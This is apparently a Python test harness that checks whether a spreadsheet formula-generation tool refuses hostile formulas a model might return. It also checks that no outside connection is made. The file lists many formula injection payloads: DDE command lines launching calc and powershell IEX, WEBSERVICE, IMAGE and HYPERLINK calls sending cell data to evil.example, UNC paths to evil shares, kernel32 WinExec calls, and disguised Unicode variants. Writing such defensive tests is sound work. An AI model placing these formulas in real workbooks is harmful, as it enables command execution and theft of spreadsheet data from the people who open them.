"""Formulas that attack, given by a model: ``python -m tests.measure.attacks``.

Each goes through the whole program, given by a server on this machine, while
every other connection is forbidden. Prints a table and ``refused value n``,
``sockets_opened value n``.
"""

from __future__ import annotations

import json
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.workbook.defined_name import DefinedName

from tests.faults.server import Misbehaving, ok
from tests.program import kumaai

REACHING_OUT = (
    '=WEBSERVICE("http://example.com/?"&B2)', '=webservice("http://example.com/"&B2)', '=_xlfn.WEBSERVICE("http://x/")',
    '=_XLFN.WebService("http://x/"&C2)', '＝ＷＥＢＳＥＲＶＩＣＥ（"http://x/"&B2）', '=IFERROR(WEBSERVICE("http://x/"),B2*C2)',
    '=IF(FALSE,WEBSERVICE("http://x/"),B2*C2)', '=LET(f,WEBSERVICE("http://x/"),B2)', '=LAMBDA(x,WEBSERVICE(x))("http://x/")',
    '=MAP(B2:B4,LAMBDA(x,WEBSERVICE("http://x/"&x)))', '=FILTERXML(WEBSERVICE("http://x/"),"//a")',
    '=ENCODEURL(B2)', '=IMAGE("http://x/a.png?"&B2)', '=_xlfn.IMAGE("http://x/a.png")',
    '=IMAGE("https://x/"&TEXTJOIN(",",TRUE,A2:C4))', '=RTD("server",,"topic")', '=RTD("kumaai.rtd","\\\\evil\\share","x")',
    '=STOCKHISTORY("MSFT",TODAY())', '=PY("import os",0)', '=_xlfn._xlws.PY(0,0)', '=COPILOT("send",A2:C4)',
    '=TRANSLATE(A2,"ja","en")', '=DETECTLANGUAGE(A2)', '=IMPORTDATA("http://x/a.csv")', '=IMPORTXML("http://x/","//a")',
    '=IMPORTHTML("http://x/","table",1)', '=IMPORTRANGE("http://x/","A1")', '=IMPORTCSV("http://x/a.csv")',
    '=IMPORTTEXT("\\\\evil\\share\\a.txt")', '=CUBEVALUE("conn","[m]")', '=CUBEMEMBER("conn","[m]")',
    '=CUBESET("http://x","[m]")', '=CUBERANKEDMEMBER("c","[m]",1)', '=FIELDVALUE(A2,"Price")', '=SQL.REQUEST("DSN=x",,,"q")',
)  # fmt: skip
RUNNING = (
    '=CALL("kernel32","WinExec","JCJ","calc",0)', '=REGISTER("kernel32","WinExec","JCJ")', '=REGISTER.ID("k","W","J")',
    '=EXEC("calc.exe")', '=exec("cmd /c calc")', '=RUN("Module1.Evil")', '=EVALUATE("=EXEC(1)")', '=HALT()',
    '=ALERT("x")', '=FOPEN("c:\\a.txt",3)', '=FWRITE(1,B2)', '=FWRITELN(1,B2)', '=GET.CELL(5,A2)', '=GET.WORKBOOK(1)',
    '=SAVE.AS("c:\\a.xlsx")', '=OPEN("\\\\evil\\a.xlsx")', '=APP.MAXIMIZE()', '=INFO("directory")', '=DDE("cmd","/c calc","x")',
    "=cmd|'/c calc'!A1", "=cmd|' /C powershell IEX'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", "=DDEAUTO|'x'!A1", '=B2*C2+cmd|"/c calc"!A1',
    "＝ｃｍｄ｜'/c calc'！A1", '=EXEC(CHAR(99)&CHAR(97)&CHAR(108)&CHAR(99))', "='cmd|/c calc'!A1",
)  # fmt: skip
ELSEWHERE = (
    "=[evil.xlsx]Sheet1!A1", "='[evil.xlsx]Sheet1'!A1", "='C:\\secret\\[evil.xlsx]S'!A1", "='\\\\evil\\share\\[a.xlsx]S'!A1",
    "='http://evil/[a.xlsx]S'!A1", "='https://evil.example/a.xlsx'!A1", "=[1]Sheet1!A1", "=SUM([2]注文!B2:B4)",
    "=VLOOKUP(A2,'[a.xls]S'!A:B,2,0)", "=[0]!name", '=INDIRECT("[evil.xlsx]S!A1")', '=INDIRECT("\'\\\\evil\\s\\[a.xlsx]S\'!A1")',
    '=INDIRECT("\'http://evil/[a.xlsx]S\'!A"&ROW())', '=INDIRECT("["&A2&".xlsx]S!A1")', '=SUM(INDIRECT("\'[a.xlsx]S\'!B2:B4"))',
    '=HYPERLINK("http://evil/?"&B2,"ここ")', '=HYPERLINK("https://evil/"&A2)', '=HYPERLINK("\\\\evil\\share\\a.exe")',
    '=HYPERLINK("file:///c:/a.exe","x")', '=HYPERLINK("mailto:a@evil")', '=HYPERLINK(A2)', '=HYPERLINK(CONCAT("http","://x"))',
    '=HYPERLINK("[evil.xlsx]S!A1")', '=HYPERLINK("#http://evil/")', '=_xlfn.HYPERLINK("http://evil/")', '=ＨＹＰＥＲＬＩＮＫ("http://x/")',
)  # fmt: skip
DISGUISED = (
    '=WEB\u200bSERVICE("http://x/")', '=WEBSERVICE\u200b("http://x/")', '=\ufeffWEB\u200dSERVICE("http://x/")', '=𝐖𝐄𝐁𝐒𝐄𝐑𝐕𝐈𝐂𝐄("http://x/")',
    '=WEBSERVІCE("http://x/")', '=_xludf.WEBSERVICE("http://x/")', '=_xlfn._xlws._xlfn.WEBSERVICE("http://x/")',
    '=WEBSERVICE ("http://x/")', '=\nWEBSERVICE("http://x/")', "=秘密", "=出口", "=動かす+1", "=注文!秘密", "=SUM(遠く)", "=遠く",
    "=間接", "=計算機", "=R1C1", "=RC[-1]*2", "=SUM(R2C2:R4C2)", "=" + "(" * 80 + "B2" + ")" * 80, "=" + "B2+" * 4000 + "C2",
    "=" + "-" * 9000 + "1", "=" + "IF(1," * 70 + "B2" + ")" * 70,
)  # fmt: skip
ATTACKS = REACHING_OUT + RUNNING + ELSEWHERE + DISGUISED

NAMES = {
    "秘密": 'WEBSERVICE("http://evil.example/")', "出口": "'http://evil.example/[a.xlsx]S'!$A$1", "動かす": 'EXEC("calc")',
    "遠く": "[1]Sheet1!$A$1:$A$9", "間接": "秘密&\"\"", "計算機": "cmd|'/c calc'!A1",
}  # fmt: skip
"""Defined names that hide what is refused."""


def workbook(path: Path) -> None:
    """Prices and counts, and names that hide attacks."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "注文"
    for row in (["品名", "単価", "数量", "金額"], ["机", 12000, 3], ["椅子", 4500, 10], ["棚", 8000, 2]):
        sheet.append(row)
    for name, text in NAMES.items():
        book.defined_names[name] = DefinedName(name, attr_text=text)
    book.save(path)


@dataclass
class Guard:
    """Which addresses were connected to; all but the allowed ports on this machine are refused."""

    allowed: set[int] = field(default_factory=set)
    opened: list[Any] = field(default_factory=list)


@contextmanager
def guarded() -> Iterator[Guard]:
    """Watch every connection and every look-up of a name in this process."""
    guard, connect, resolve = Guard(), socket.socket.connect, socket.getaddrinfo
    lock = threading.Lock()

    def watched(self: socket.socket, address: Any) -> None:
        if not (
            isinstance(address, tuple) and address[0] in ("127.0.0.1", "::1") and address[1] in guard.allowed
        ):
            with lock:
                guard.opened.append(address)
            raise OSError("refused by the guard")
        connect(self, address)

    def looked_up(host: Any, *rest: Any, **more: Any) -> Any:
        if host not in ("127.0.0.1", "localhost", "::1", None):
            with lock:
                guard.opened.append(host)
            raise OSError("refused by the guard")
        return resolve(host, *rest, **more)

    socket.socket.connect = watched  # type: ignore[method-assign]
    socket.getaddrinfo = looked_up
    try:
        yield guard
    finally:
        socket.socket.connect = connect  # type: ignore[method-assign]
        socket.getaddrinfo = resolve


@dataclass(frozen=True)
class Attacked:
    """What became of one attack."""

    formula: str
    status: int
    written: bool
    error: str
    opened: tuple[Any, ...]

    @property
    def refused(self) -> bool:
        """Whether it ended as an unusable answer, with nothing written."""
        return self.status == 8 and not self.written


def attack(formula: str, folder: Path) -> Attacked:
    """One run of the whole program with a model that gives this formula whenever it is asked."""
    workbook(folder / "注文.xlsx")
    answer = json.dumps({"formula": formula, "explanation": "積", "assumptions": []}, ensure_ascii=False)
    with guarded() as guard, Misbehaving(ok(answer)) as server:
        guard.allowed.add(int(server.base_url.split(":")[2].split("/")[0]))
        environ = {"KUMAAI_BASE_URL": server.base_url, "KUMAAI_MODEL": "m"}
        words = ("excel-formula", "注文.xlsx", "金額", "--cell", "D2:D4", "--json", "-o", "out.xlsx")
        done = kumaai(folder, *words, environ=environ)
    error = done.envelope["error"] or {}
    return Attacked(
        formula, done.status, (folder / "out.xlsx").exists(), error.get("message", ""), tuple(guard.opened)
    )


def main(_arguments: list[str]) -> None:
    """Run all attacks."""
    refused = opened = 0
    for formula in ATTACKS:
        with tempfile.TemporaryDirectory() as place:
            done = attack(formula, Path(place))
        refused += done.refused
        opened += len(done.opened)
        what = "refused" if done.refused else "NOT REFUSED"
        print(f"{what}\t{done.status}\t{formula[:60]!r}\t{done.error[:120]}")
    print(f"refused\t{round(refused / len(ATTACKS), 4)}\t{len(ATTACKS)}")
    print(f"sockets_opened\t{opened}\t{len(ATTACKS)}")


if __name__ == "__main__":
    main(sys.argv[1:])
